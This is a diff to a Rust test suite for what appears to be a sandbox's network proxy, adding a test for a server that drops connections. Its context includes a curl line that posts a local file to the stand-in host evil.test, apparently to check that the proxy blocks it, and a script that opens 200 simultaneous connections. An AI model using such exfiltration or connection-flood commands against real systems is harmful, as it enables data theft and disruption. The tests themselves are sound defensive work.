@@ -1,7 +1,7 @@
 //! What is allowed works: every kind of client, streams, several tasks, a supervisor that is killed.
 
 use std::fs;
-use std::io::{BufRead as _, BufReader, Write as _};
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
 use std::sync::Mutex;
 use std::sync::mpsc::channel;
 
@@ -113,7 +113,7 @@ for way in "--noproxy *" "--noproxy '' -x http://127.0.0.1:808" "--noproxy '' -p
 curl -sS -o /dev/null -w '%{{http_code}}\n' --noproxy '' -x http://127.0.0.1:808 --data-binary @/tmp/large http://evil.test/
 python3 -c '
 import socket, threading
-opened = [socket.create_connection(("127.0.0.1", 808), 60) for _ in range(400)]
+opened = [socket.create_connection(("127.0.0.1", 808), 60) for _ in range(200)]
 for s in opened: s.sendall(b"GET {url}/ HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n")
 answers = [b"".join(iter(lambda: s.recv(4096), b"")) for s in opened]
 print(sum(answer.endswith(b"reached\n") for answer in answers))
@@ -123,7 +123,26 @@ print(sum(answer.endswith(b"reached\n") for answer in answers))
     let net = format!("allow:localhost:{}", server.port());
     repo.task(&["--task", "t1", "--net", &net], &script)
         .exits(11);
-    assert_eq!(repo.log_of("t1"), "same\nsame\nsame\n403\n400\n");
+    assert_eq!(repo.log_of("t1"), "same\nsame\nsame\n403\n200\n");
+}
+
+#[test]
+fn a_server_that_breaks_off_is_seen_to_do_so() {
+    let env = TestEnv::new();
+    let repo = env.repository();
+    let server = Server::new(|mut client, _| {
+        // Closed with something unread, a connection is reset.
+        client.read_exact(&mut [0]).unwrap();
+    });
+    let net = format!("allow:localhost:{}", server.port());
+    let url = format!("http://localhost:{}/", server.port());
+    let script = format!(
+        "for way in '--noproxy localhost' '--noproxy none -x http://127.0.0.1:808' '--noproxy none -p -x http://127.0.0.1:808'; do \
+         curl -sS -o /dev/null -w '%{{http_code}}\n' $way {url} 2>/dev/null; done; true"
+    );
+    repo.task(&["--task", "t1", "--net", &net], &script)
+        .exits(11);
+    assert_eq!(repo.log_of("t1"), "000\n502\n000\n");
 }
 
 #[test]
